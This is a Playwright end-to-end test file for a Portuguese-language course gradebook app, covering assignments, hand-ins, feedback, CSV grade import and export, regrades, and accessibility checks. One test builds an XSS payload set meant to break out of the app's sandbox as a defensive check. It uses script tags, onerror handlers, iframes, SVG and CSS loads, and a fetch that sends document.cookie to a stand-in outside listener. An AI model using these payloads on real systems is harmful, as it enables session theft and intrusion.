import { createHash } from "node:crypto";
import { readFileSync } from "node:fs";
import AxeBuilder from "@axe-core/playwright";
import { type Browser, expect, type Page, test } from "@playwright/test";
import { classTexts } from "../../../src/host/messages/class.ts";
import { gradebookTexts } from "../../../src/host/messages/gradebook.ts";
import { instructorTexts } from "../../../src/host/messages/instructor.ts";
import { readingTexts } from "../../../src/host/messages/reading.ts";
import { regradeTexts } from "../../../src/host/messages/regrade.ts";
import type { Language } from "../../../src/shared/text.ts";
import { journalOf, submissionWith } from "../../../src/submission/submission.fixture.ts";
import type { Submission } from "../../../src/submission/submission.ts";
import { writeSubmission } from "../../../src/submission/write-submission.ts";
import { listen } from "../listener.ts";
import { pressUntil } from "./by-keyboard.ts";
import { type RunningClass, startClass } from "./class-process.ts";
import { speak, walkTeaching } from "./faces.ts";
import { tfidf, words } from "./support.ts";

const texts = instructorTexts["pt-BR"];
const reading = readingTexts["pt-BR"];
const book = gradebookTexts["pt-BR"];
const regrade = regradeTexts["pt-BR"];
const student = classTexts["pt-BR"];
const [idf] = tfidf.exercises;
if (!idf?.solution) throw new Error("The lab has no first exercise with a solution.");
const { cell, solution } = idf;
const lab = "vectorization/tfidf";

const newPage = async (browser: Browser): Promise<Page> =>
  (await browser.newContext({ locale: "pt-BR", serviceWorkers: "block", acceptDownloads: true })).newPage();

/** Rita's account, by the first link's token, and a course of hers. */
async function teach(page: Page, { url, firstLink }: RunningClass): Promise<{ course: string; joinCode: string }> {
  const token = firstLink.slice(firstLink.indexOf("#") + 1);
  const headers = { origin: url };
  const person = { token, name: "Rita Prado", email: "rita@example.edu", password: "uma senha comprida" };
  const made = await page.request.post(`${url}/api/first-instructor`, { headers, data: person });
  expect(made.status(), await made.text()).toBeLessThan(300);
  const course = await page.request.post(`${url}/api/courses`, { headers, data: { name: "Aprendizado de Máquina" } });
  const { id, joinCode } = await course.json();
  return { course: id, joinCode };
}

/** The hash of the lab as this server has it. */
async function labHashOf(page: Page, url: string): Promise<string> {
  const labs: { hash: string; labId: string }[] = await (await page.request.get(`${url}/api/labs`)).json();
  return labs.find(({ labId }) => labId === lab)?.hash ?? "";
}

/** Hands in a file of the lab for whoever is signed in on the page. */
async function handIn(page: Page, url: string, assignment: string, file: { hash: string; text: string }) {
  const path = `${url}/api/assignments/${assignment}/submissions/${file.hash}`;
  const headers = { origin: url, "content-type": "text/html; charset=utf-8" };
  const sent = await page.request.put(path, { headers, data: file.text });
  expect(sent.status(), await sent.text()).toBe(201);
  return (await sent.json()) as { id: string };
}

function fileOf(labHash: string, body: string, change: Partial<Submission> = {}) {
  const submission = submissionWith({ lab: { id: lab, version: tfidf.version, hash: labHash }, ...change });
  const text = writeSubmission(submission, { title: "TF-IDF", css: "", body });
  return { text, hash: createHash("sha256").update(text).digest("hex") };
}

async function enrol(page: Page, url: string, person: { name: string; email: string; joinCode: string }) {
  const { joinCode, ...account } = person;
  const headers = { origin: url };
  const data = { ...account, password: "outra senha comprida" };
  const made = await page.request.post(`${url}/api/account`, { headers, data });
  expect(made.status(), await made.text()).toBe(201);
  const joined = await page.request.post(`${url}/api/memberships`, { headers, data: { joinCode } });
  expect(joined.status(), await joined.text()).toBeLessThan(300);
}

const part = (page: Page, name: string) =>
  page.getByRole("navigation", { name: /Aprendizado/ }).getByRole("link", { name, exact: true });

test.describe("teaching a class", () => {
  let running: RunningClass;
  test.beforeEach(async () => {
    running = await startClass();
  });
  test.afterEach(() => running?.stop());

  test("from a join code to feedback that is read, in two browsers", async ({ browser }) => {
    test.setTimeout(300_000);
    const [rita, ana] = [await newPage(browser), await newPage(browser)];
    const { url } = running;
    const { course, joinCode } = await teach(rita, running);

    // Rita makes the assignment on the page.
    await rita.goto(`${url}/class`);
    await rita.getByRole("link", { name: student.teach }).click();
    await expect(rita.getByRole("heading", { name: "Aprendizado de Máquina", level: 1 })).toBeVisible();
    await rita.getByRole("button", { name: texts.assignments.new }).click();
    const dialog = rita.getByRole("dialog");
    const labs = dialog.getByLabel(texts.assignments.lab);
    await labs.selectOption(await labHashOf(rita, url));
    await dialog.getByLabel(texts.assignments.name).fill("Tarefa 1");
    await dialog.getByLabel(texts.assignments.opens).fill("2020-01-01T08:00");
    await dialog.getByLabel(texts.assignments.due).fill("2190-01-01T08:00");
    await dialog.getByRole("button", { name: texts.assignments.lateAdd }).click();
    await dialog.getByLabel(texts.assignments.lateWorth).fill("80");
    await dialog.getByRole("button", { name: texts.assignments.make }).click();
    await expect(dialog).toHaveCount(0);
    await expect(rita.getByText("Tarefa 1", { exact: true })).toBeVisible();

    // The school's list, as Excel saves it in Brazil.
    await part(rita, texts.parts.people).click();
    const list = Buffer.from(
      "Nome;E-mail\r\nAna Souza;ana@example.edu\r\nJo\u00e3o Lima;joao@example.edu\r\n",
      "latin1",
    );
    const roster = { name: "turma.csv", mimeType: "text/csv", buffer: list };
    await rita.locator("input[type=file]").setInputFiles(roster);
    await expect(rita.getByRole("row", { name: /João Lima.*Ainda não entrou/ })).toBeVisible();

    // Ana joins by the code, and hands in.
    await enrol(ana, url, { name: "Ana Souza", email: "ana@example.edu", joinCode });
    const [task] = await (await rita.request.get(`${url}/api/courses/${course}/assignments`)).json();
    expect(task.lateCredit).toEqual([{ afterHours: 0, credit: 0.8 }]);
    const labHash = await labHashOf(ana, url);
    const file = fileOf(labHash, "<main><p>O que Ana viu</p></main>", {
      changed: [{ cell, text: solution }],
      outputs: [{ cell, summary: "0,69", error: "" }],
      journal: journalOf(lab, { type: "opened", labVersion: 1, labHash, studentSeed: 7 }),
    });
    await handIn(ana, url, task.id, file);

    // Rita follows it to its grade, reads it, and says something of it.
    await rita.reload();
    await expect(rita.getByRole("row", { name: /João Lima.*Ainda não entrou/ })).toBeVisible();
    await expect(rita.getByRole("row", { name: /Ana Souza.*Estudante/ })).toBeVisible();
    await expect(async () => {
      const status = await (await rita.request.get(`${url}/api/courses/${course}/grading`)).json();
      expect(status).toMatchObject({ graded: 1 });
    }).toPass({ timeout: 150_000 });
    await part(rita, texts.parts.submissions).click();
    await expect(rita.getByRole("button", { name: `${texts.submissions.states.graded} (1)` })).toBeVisible();
    await rita.getByRole("link", { name: "Ana Souza" }).click();
    await expect(rita.getByRole("heading", { name: reading.title("Ana Souza") })).toBeVisible();
    const work = rita.getByRole("article", { name: reading.cell(cell) });
    await expect(work).toContainText("idf");
    await expect(work).toContainText("0,69");
    await rita.getByRole("button", { name: reading.showPage }).click();
    await expect(rita.frameLocator("iframe.reading__page").getByText("O que Ana viu")).toBeVisible();
    await expect(rita.locator(".reading__checks")).toContainText(words.lab.exercise.outcome.passed);
    await rita.getByRole("button", { name: reading.commentOn(reading.cell(cell)) }).click();
    await rita.getByLabel(reading.commentText).fill("Por que o logaritmo?");
    await rita.getByRole("button", { name: reading.sendComment }).click();
    await expect(work).toContainText("Por que o logaritmo?");
    await rita.getByLabel(student.strengths).fill("Código limpo.");
    await rita.getByLabel(student.nextStep).fill("Compare com o scikit-learn.");
    await rita.getByRole("button", { name: reading.saveFeedback }).click();
    await expect(rita.getByText(reading.feedbackSaved)).toBeVisible();
    await rita.getByLabel(book.points(10)).fill("9.5");
    await rita.getByLabel(book.justification).fill("Explicou bem em aula.");
    await rita.getByRole("button", { name: book.giveGrade }).click();
    await expect(rita.getByText(book.gradeNow("9,5", "10", true))).toBeVisible();

    // The gradebook has it; it goes out as CSV, is changed, and comes back.
    await part(rita, texts.parts.grades).click();
    await expect(rita.getByRole("row", { name: /Ana Souza.*9,5 \(manual\)/ })).toBeVisible();
    const downloading = rita.waitForEvent("download");
    await rita.getByRole("button", { name: "CSV", exact: true }).click();
    const csv = readFileSync(await (await downloading).path(), "utf8");
    expect(csv).toBe("\ufeffNome;E-mail;Tarefa 1;Média\r\nAna Souza;ana@example.edu;9,5;9,5\r\n");
    await rita.getByRole("button", { name: book.import }).click();
    const changed = Buffer.from(csv.replace(";9,5;9,5", ";8,75;9,5"));
    await dialog
      .locator("input[type=file]")
      .setInputFiles({ name: "notas.csv", mimeType: "text/csv", buffer: changed });
    await expect(dialog.getByText(book.change("Ana Souza", "Tarefa 1", "9,5", "8,75"))).toBeVisible();
    await dialog.getByRole("button", { name: book.take }).click();
    await expect(rita.getByRole("row", { name: /Ana Souza.*8,75 \(manual\)/ })).toBeVisible();

    // A regrade: her grade by hand stays.
    await part(rita, texts.parts.regrade).click();
    await rita.getByRole("button", { name: regrade.start }).click();
    await expect(rita.getByRole("row", { name: /Ana Souza.*fica 8,75/ })).toBeVisible();
    await rita.getByRole("button", { name: regrade.publish }).click();
    await expect(rita.getByText(regrade.published["never-lower"])).toBeVisible();

    // Ana reads it all.
    await ana.goto(`${url}/class`);
    await expect(ana.locator(".class__grade")).toContainText("8,75 de 10");
    await expect(ana.getByText(student.gradeWhy(book.fromSheet))).toBeVisible();
    await ana.getByRole("button", { name: student.feedback }).click();
    const said = ana.locator(".class__feedback");
    await expect(said).toContainText("Código limpo.");
    await expect(said).toContainText("Compare com o scikit-learn.");
    await expect(said).toContainText("Por que o logaritmo?");
  });

  // In English, wide and dark; in Portuguese, light and as on a telephone.
  for (const [language, colorScheme, width] of [
    ["en", "dark", 1280],
    ["pt-BR", "light", 390],
  ] as const) {
    test(`every part is accessible, and reached by keyboard, in ${language}, ${width} px wide, ${colorScheme}`, async ({
      browser,
    }) => {
      test.setTimeout(240_000);
      const { url } = running;
      const [rita, ana] = [await newPage(browser), await newPage(browser)];
      const { course, joinCode } = await teach(rita, running);
      const labHash = await labHashOf(rita, url);
      const made = await rita.request.post(`${url}/api/courses/${course}/assignments`, {
        headers: { origin: url },
        data: {
          ...{ title: "Tarefa 1", labHash, maxPoints: 10 },
          ...{ opensAt: "2020-01-01T00:00:00Z", dueAt: "2190-01-01T00:00:00Z" },
        },
      });
      await enrol(ana, url, { name: "Ana Souza", email: "ana@example.edu", joinCode });
      const changed = [{ cell, text: solution }];
      await handIn(ana, url, (await made.json()).id, fileOf(labHash, "<main><p>O que Ana viu</p></main>", { changed }));
      await rita.emulateMedia({ colorScheme });
      await rita.setViewportSize({ width, height: 844 });
      await look(rita, { course: `${url}/class/${course}`, language });
      await gradeByKeyboard(rita, `${url}/class/${course}`);
    });
  }

  test("a hostile submission reaches nobody, reads nothing, and gives no grade", async ({ browser }) => {
    test.setTimeout(180_000);
    const [rita, eva] = [await newPage(browser), await newPage(browser)];
    const { url } = running;
    const { course, joinCode } = await teach(rita, running);
    const outside = await listen();
    const E = outside.http;
    const markup = `<img src="${E}/name" onerror="globalThis.broken=1"><script>globalThis.broken=1</script>`;
    const hostile = [
      `<link rel="preconnect" href="${outside.tcp}"><link rel="dns-prefetch" href="${E}"><link rel="stylesheet" href="${E}/css">`,
      `<meta http-equiv="refresh" content="0;url=${E}/refresh"><base href="${E}/">`,
      `<img src="${E}/img" srcset="${E}/srcset 2x"><video poster="${E}/poster" src="${E}/video"></video><audio src="${E}/audio" autoplay></audio>`,
      `<img src="/api/session"><img src="/api/courses">`,
      `<iframe src="${E}/frame"></iframe><iframe srcdoc="<img src='${E}/srcdoc'>"></iframe><object data="${E}/object"></object><embed src="${E}/embed">`,
      `<svg><image href="${E}/svg"/><use href="${E}/use#a"/><script>parent.broken=1</script><foreignObject><img src="${E}/fo"></foreignObject><animate attributeName="href" values="${E}/a"/></svg>`,
      `<div style="background:url(${E}/background)">x</div><style>@import url(${E}/import);body{background:url(${E}/body)}</style>`,
      `<form action="/api/session" method="post"><button autofocus>x</button></form><math><mtext><img src="${E}/math"></mtext></math>`,
      `<script>fetch("${E}/script?"+document.cookie);parent.localStorage.x=1;parent.broken=1</script><p id="stands">fim</p>`,
    ].join("\n");
    await enrol(eva, url, { name: `Eva ${markup}`.slice(0, 120), email: "eva@example.edu", joinCode });
    const labHash = await labHashOf(rita, url);
    const headers = { origin: url };
    const made = await rita.request.post(`${url}/api/courses/${course}/assignments`, {
      headers,
      data: {
        ...{ title: `Tarefa ${markup}`, labHash, maxPoints: 10 },
        ...{ opensAt: "2020-01-01T00:00:00Z", dueAt: "2190-01-01T00:00:00Z" },
      },
    });
    const { id: task } = await made.json();
    const file = fileOf(labHash, hostile, {
      names: [markup.slice(0, 120)],
      changed: [{ cell, text: `${markup}\nconst idf = () => 0;` }],
      own: [{ id: 1_000_001, after: cell, mode: "md", text: markup }],
      outputs: [{ cell, summary: markup, error: markup }],
      reflections: [{ reflection: "x", text: markup }],
    });
    const { id } = await handIn(eva, url, task, file);
    const comment = await rita.request.post(`${url}/api/submissions/${id}/comments`, {
      headers,
      data: { cell, text: markup },
    });
    expect(comment.status()).toBe(201);

    const asked: string[] = [];
    rita.on("request", (request) => asked.push(`${request.method()} ${request.url()}`));
    await rita.addInitScript(() => localStorage.setItem("canary", "untouched"));
    await rita.goto(`${url}/class/${course}/submissions/${id}`);
    await expect(rita.getByRole("article", { name: reading.cell(cell) })).toContainText("const idf = () => 0;");
    await rita.getByRole("button", { name: reading.showPage }).click();
    const frame = rita.frameLocator("iframe.reading__page");
    await expect(frame.getByText("fim")).toBeVisible();
    // Whatever the markup starts has had its time once other pages came and went.
    await part(rita, texts.parts.grades).click();
    await expect(rita.getByRole("button", { name: /Eva/ })).toBeVisible();
    await rita.getByRole("button", { name: /Eva/ }).click();
    await expect(rita.getByRole("dialog")).toBeVisible();
    await rita.keyboard.press("Escape");
    await part(rita, texts.parts.submissions).click();
    await rita.getByRole("link", { name: /Eva/ }).click();
    await rita.getByRole("button", { name: reading.showPage }).click();
    await expect(frame.getByText("fim")).toBeVisible();
    await eva.goto(`${url}/class`);
    await expect(
      eva
        .getByText(student.openLab("").trim())
        .or(eva.getByText(/Tarefa </))
        .first(),
    ).toBeVisible();

    expect(outside.paths).toEqual([]);
    expect(outside.counts).toEqual({ tcp: 0, udp: 0 });
    expect(asked.filter((one) => !one.includes(url) && !/^GET (data|blob):/.test(one))).toEqual([]);
    expect(asked.filter((one) => !one.startsWith("GET"))).toEqual([]);
    for (const page of [rita, eva]) {
      expect(await page.evaluate(() => "broken" in globalThis)).toBe(false);
    }
    expect(await rita.evaluate(() => [localStorage.getItem("canary"), localStorage.getItem("x")])).toEqual([
      "untouched",
      null,
    ]);
    const standing = await rita.request.get(`${url}/api/courses/${course}/gradebook`);
    const [row] = (await standing.json()).students;
    expect(row.cells[0].manual).toBe(false);
    // The listener hears who asks: nothing above was silent for want of ears.
    await fetch(`${E}/control`);
    expect(outside.paths).toEqual(["/control"]);
    await outside.close();
  });
});

/** From the address to a student's grades and back without a mouse, and it always shows where one is. */
async function gradeByKeyboard(page: Page, course: string): Promise<void> {
  await page.goto(course);
  await expect(page.locator(".class__task-title").first()).toBeVisible();
  await pressUntil(page, "Tab", '.teach__part[href$="/grades"]');
  await page.keyboard.press("Enter");
  await expect(page.locator(".grid__name").first()).toBeVisible();
  await expect(page.locator("#content")).toBeFocused();
  await pressUntil(page, "Tab", ".grid__name");
  await page.keyboard.press("Enter");
  await expect(page.getByRole("dialog")).toBeVisible();
  await page.keyboard.press("Escape");
  await expect(page.locator(".grid__name").first()).toBeFocused();
}

/** Every part of the page: no rule of WCAG 2.2 AA that a program can check is broken, nothing to scroll sideways. */
async function look(page: Page, { course, language }: { course: string; language: Language }): Promise<void> {
  await speak(page, language);
  await walkTeaching(page, language, course, async (where) => {
    const axe = new AxeBuilder({ page }).exclude("iframe");
    if (await page.getByRole("dialog").isVisible()) axe.include("dialog");
    const { violations } = await axe.analyze();
    expect
      .soft(
        violations.map(({ id, nodes }) => `${id}: ${nodes[0]?.html.slice(0, 160)}`),
        where,
      )
      .toEqual([]);
    const wider = await page.evaluate(
      () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
    );
    expect.soft(wider, `${where}: px to scroll sideways`).toBe(0);
  });
}
